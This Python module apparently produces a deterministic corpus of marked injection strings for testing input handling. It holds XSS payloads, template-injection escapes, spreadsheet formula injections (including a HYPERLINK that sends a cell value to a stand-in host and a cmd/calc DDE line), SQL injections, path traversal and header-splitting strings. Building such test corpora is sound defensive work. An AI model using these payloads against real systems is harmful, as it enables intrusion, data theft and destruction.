"""Two thousand and some hostile strings, the same on every run, each with the mark that would give it away.

A family is a way of breaking out: of HTML, of an attribute, of a script, of a template, of a cell, of a
query, of a path, of a header, of the direction of writing. What each would do is call `zq7`.
"""

from __future__ import annotations

import itertools
from collections.abc import Iterator

MARK = "zq7"
ACT = "alert('zq7')"
SIZE = 2_200

CLOSERS = ("", '">', "'>", "</title>", "</textarea>", "</script>", "</select></form>", "--></style>", "]]>", "</pre></p>", "\x00>")
ELEMENTS = (
    f"<script>{ACT}</script>",
    f"<ScRiPt>{ACT}</sCrIpT >",
    "<script src=//zq7.example/x.js></script>",
    f"<img src=zq7 onerror={ACT}>",
    f"<img/src=zq7\tonerror\n=\r{ACT}>",
    f"<svg onload={ACT}>",
    f"<svg><script>{ACT}</script></svg>",
    f"<svg><animate onbegin={ACT} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{ACT}'><text y=20>zq7</text></a></svg>",
    f'<iframe srcdoc="<script>parent.{ACT}</script>"></iframe>',
    f"<iframe src=javascript:{ACT}></iframe>",
    f"<details open ontoggle={ACT}>",
    f"<math><mi xlink:href=javascript:{ACT}>zq7</mi></math>",
    f"<a href='java\tscript:{ACT}'>zq7</a>",
    f"<form action=javascript:{ACT}><button autofocus>zq7</button></form>",
    f"<object data=javascript:{ACT}></object>",
    "<style>@import '//zq7.example/x.css';*{background:url(//zq7.example)}</style>",
    "<link rel=stylesheet href=//zq7.example/x.css>",
    "<base href=//zq7.example/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{ACT}'>",
    f"<video><source onerror={ACT}></video>",
    f"<input autofocus onfocus={ACT} name=form_key value=zq7>",
    f"<noscript><p title='</noscript><img src=zq7 onerror={ACT}>'>",
    f"<!--zq7--!><img src=zq7 onerror={ACT}>",
    f"<x-zq7 style=animation-name:x onanimationend={ACT}>",
)  # fmt: skip
ATTRIBUTES = (
    f'" onfocus={ACT} autofocus zq7="',
    f"' onmouseover={ACT} zq7='",
    f"` onclick={ACT} zq7=`",
    f'" style="x:expression({ACT})" zq7="',
    f'"/onpointerenter="{ACT}"/zq7="',
    f"zq7 onfocus={ACT} autofocus",
    f'&quot; onfocus={ACT} autofocus zq7=&quot;',
    f'&#34;&#62;<svg onload={ACT}>',
    f"javascript:{ACT}",
    f"JaVaScRiPt&colon;{ACT}",
    f"data:text/html,<script>{ACT}</script>",
    f"vbscript:{ACT}",
)  # fmt: skip
SCRIPTS = (
    f"';{ACT}//",
    f'"-{ACT}-"',
    f"\\';{ACT}//",
    f"</script><script>{ACT}//",
    f"${{{ACT}}}",
    f"\\u003cscript\\u003e{ACT}",
    f"\u2028{ACT}\u2029",
    f"<!--<script>{ACT}",
    '{"__proto__":{"zq7":1}}',
    f"*/{ACT}/*",
)
TEMPLATES = (
    "{{7*7}}zq7",
    "{{'7'*7}}zq7",
    "${7*7}zq7",
    "#{7*7}zq7",
    "<%= 7*7 %>zq7",
    "{% include '/etc/passwd' %}zq7",
    "{{''.__class__.__mro__[1].__subclasses__()}}zq7",
    "{# zq7 #}",
    "{%raw%}{{7*7}}zq7",
    "%s%s%n%(zq7)s",
    "{zq7.__globals__}",
    '#read("/etc/passwd")zq7',
    "#eval(\"7*7\")zq7",
    "\\input{/etc/passwd}zq7",
)
LEADS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u3000=", "＝", "＋", "－", "＠", "'=", '"=', "\ufeff=", "\x00=", "%0A=", "|", "\u200b=")
CELLS = (
    "1+1zq7",
    "cmd|'/C calc'!zq7",
    'HYPERLINK("http://zq7.example/?"&A1,"zq7")',
    "SUM(A1:A9)*zq7",
    "MSEXCEL|'\\..\\cmd.exe /c zq7'!''",
    'IMPORTXML("http://zq7.example","//a")',
    'WEBSERVICE("http://zq7.example/")',
    "zq7,=1+1",
    'zq7",=1+1,"',
    "zq7\r\n=1+1",
    "zq7;=1+1",
    "rundll32|'URL.dll,OpenURL zq7'!A",
)
QUERIES = (
    "' OR '1'='1' --zq7",
    "'; DROP TABLE waves; --zq7",
    '" OR ""="zq7',
    "zq7' UNION SELECT password FROM accounts --",
    "%' ESCAPE 'zq7",
    "zq7\\'; SELECT pg_sleep(9); --",
    "$$; SELECT 'zq7'; $$",
    "zq7' AND randomblob(1000000000) --",
    "1;ATTACH DATABASE '/tmp/zq7' AS zq7",
    "{}zq7{}",
)
PATHS = (
    "../../../../etc/zq7",
    "..\\..\\..\\zq7",
    "%2e%2e%2f%2e%2e%2fzq7",
    "/etc/passwd\x00zq7",
    "file:///etc/zq7",
    "C:\\zq7",
    "\\\\zq7.example\\share",
    "con.zq7",
    ".zq7/../.",
    "zq7/..;/..;/",
    "....//....//zq7",
    "~root/zq7",
)
HEADERS = (
    "zq7\r\nSet-Cookie: zq7=1",
    "zq7\nLocation: //zq7.example",
    "zq7%0d%0aSet-Cookie:%20zq7=1",
    "zq7\r\n\r\n<script>alert('zq7')</script>",
    'zq7"; filename="zq7.exe',
    "zq7\u560a\u560dSet-Cookie: zq7=1",
    "//zq7.example/",
    "https://zq7.example\\@127.0.0.1/",
)
SIGNS = tuple(map(chr, (*range(0x20), *range(0x7F, 0xA0), *range(0x200B, 0x2010), *range(0x202A, 0x202F),
                        *range(0x2060, 0x206A), 0xFEFF, 0xFFFE, 0xFFFF, 0xFFF9, 0xE0001, 0x1F3F4, 0xD7FF)))  # fmt: skip
HALVES = ("\ud800zq7", "zq7\udfff", "\udc00\ud800zq7", "<b>zq7\ud83d", "=\ud83d1+1zq7", "zq7\ud800\r\nzq7: 1")
"""Halves of a pair: JSON can spell them, no UTF-8 can."""
LONG = tuple(
    piece * (size // len(piece)) + MARK
    for size in (100, 500, 4_000, 20_000)
    for piece in ("长", "A", "\u0301", "👨\u200d👩\u200d👧", "<", "&amp;", "((((", "\u202e", "zq7 ", "０")
)


def families() -> dict[str, tuple[str, ...]]:
    """Each family whole, in an order that never changes."""
    return {
        "html": tuple(a + b for b, a in itertools.product(ELEMENTS, CLOSERS)),
        "attribute": tuple(a + b for b, a in itertools.product(ATTRIBUTES, ("", "x", '\\"', "王", " "))),
        "script": tuple(a + b for b, a in itertools.product(SCRIPTS, ("", "x", "\\", "0,", "\n"))),
        "template": tuple(a + b for b, a in itertools.product(TEMPLATES, ("", "甲", "}}", "%}"))),
        "cell": tuple(a + b for b, a in itertools.product(CELLS, LEADS)),
        "query": tuple(a + b for b, a in itertools.product(QUERIES, ("", "1", "甲", "\\"))),
        "path": tuple(a + b for b, a in itertools.product(PATHS, ("", "/", "a/", "\\"))),
        "header": tuple(a + b for b, a in itertools.product(HEADERS, ("", "a", "甲", " "))),
        "sign": tuple(form.format(sign) for sign in SIGNS for form in ("{0}zq7", "zq7{0}甲", "<b>zq7{0}", "zq{0}7{0}{0}")),
        "half": HALVES,
        "long": LONG,
    }


def corpus() -> tuple[str, ...]:
    """All of them: every family whole, then pairs of families joined until there are enough."""
    every = families()
    found = dict.fromkeys(itertools.chain.from_iterable(every.values()))
    for text in _pairs(every):
        if len(found) >= SIZE:
            break
        found[text] = None
    return tuple(found)[:SIZE]


def sample(each: int) -> tuple[str, ...]:
    """So many of every family, spread over it."""
    return tuple(
        text for family in families().values() for text in family[:: max(len(family) // each, 1)][:each]
    )


def _pairs(every: dict[str, tuple[str, ...]]) -> Iterator[str]:
    short = [family[::7] for name, family in every.items() if name not in ("half", "long")]
    for at in itertools.count():
        for one, other in itertools.permutations(short, 2):
            yield one[at % len(one)] + other[(3 * at + 1) % len(other)]
